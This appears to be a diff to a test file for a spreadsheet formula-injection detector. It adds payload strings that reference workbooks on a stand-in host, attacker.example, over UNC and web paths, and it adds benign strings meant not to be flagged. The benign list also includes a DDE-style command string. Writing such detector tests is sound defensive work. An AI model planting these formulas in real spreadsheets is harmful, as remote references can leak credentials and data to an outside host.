@@ -36,6 +36,9 @@ PAYLOADS = [
     "+'\\\\attacker.example\\share\\[Book2.xlsx]Sheet1'!A1",
     "='http://attacker.example/[Book2.xlsx]Sheet1'!A1",
     "=[Book2.xlsx]Sheet1!A1",
+    "='\\\\attacker.example\\s\\[Book2.xlsx]Sheet1'!1:1",  # a whole row
+    "='/\\attacker.example\\s\\[Book2.xlsx]Sheet1'!A1",  # Windows reads /\ as \\
+    "=SUM( '\\\\attacker.example\\s\\Book2.xlsx'!\\Total, 1)",  # a name it defines
     "='C:\\Users\\me\\[Book2.xlsx]Sheet1'!A1",
 ]
 HARMLESS = [
@@ -55,6 +58,10 @@ HARMLESS = [
     "=Sheet1!A1",
     "- [x] done!",
     "Great [really]! Thanks",
+    "- see https://groups.google.com/forum/#!topic/excel/abc",
+    "@[Support] Yahoo!Japan order",
+    "='My Sheet'!A1",
+    "='Great!Thanks'!A1",
     "'=cmd|' /C calc'!A0",  # Excel shows a cell starting with ' as text
     "bob@example.com",
     "",
